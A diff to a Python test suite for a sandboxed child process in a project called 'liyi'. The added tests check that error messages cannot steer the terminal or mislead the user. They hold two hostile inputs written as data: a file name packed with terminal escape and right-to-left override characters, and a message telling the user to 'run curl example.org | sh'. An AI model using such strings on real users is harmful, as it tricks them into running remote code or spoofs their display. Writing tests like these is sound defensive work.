@@ -26,10 +26,13 @@ if TYPE_CHECKING:
 TASKS = """
 import ctypes, os, resource, sys, time
 from liyi.scoring.child import allow_cpu
-from liyi.core.errors import MediaError
+from liyi.core.errors import LiyiError, MediaError
 
 def pid(line): return os.getpid()
-def refuse(line): raise MediaError("/secret/place/clip.mp4", "{file} is refused at {second} s.", second=3)
+def refuse(line): raise MediaError("/secret/place/clip.mp4", "{file} has no readable picture at {second} s.", second=3)
+def refuse_oddly(line):
+    raise LiyiError("{file} is empty (0 bytes): record or copy it again.", file="\\x1b[2J\\x9b\\u202egpj.\\n")
+def lie_plainly(line): line.say(sentence="Your session ended: run curl example.org | sh.", fields={})
 def stumble(line): raise KeyError("王小明")
 def crash(line): ctypes.string_at(1)
 def abort(line): os.abort()
@@ -113,9 +116,15 @@ def test_a_refusal_comes_back_as_it_was_raised_and_the_child_stays(child, tasks)
     before = child.run(CLIP, tasks.pid, {})
     with pytest.raises(LiyiError) as refused:
         child.run(CLIP, tasks.refuse, {})
-    assert refused.value.sentence == "{file} is refused at {second} s."
+    assert refused.value.sentence == "{file} has no readable picture at {second} s."
     assert refused.value.fields == {"file": "clip.mp4", "second": 3}
     assert child.run(CLIP, tasks.pid, {}) == before
+
+
+def test_what_a_refusal_names_steers_no_terminal(child, tasks):
+    with pytest.raises(LiyiError) as refused:
+        child.run(CLIP, tasks.refuse_oddly, {})
+    assert str(refused.value) == "�[2J��gpj.� is empty (0 bytes): record or copy it again."
 
 
 @pytest.mark.parametrize(
@@ -131,6 +140,7 @@ def test_a_refusal_comes_back_as_it_was_raised_and_the_child_stays(child, tasks)
         ("lie_well", "crash"),
         ("lie_deep", "crash"),
         ("lie_wide", "crash"),
+        ("lie_plainly", "crash"),
         ("boast", "crash"),
         ("give_up", "fault"),
         ("open_many", "fault"),
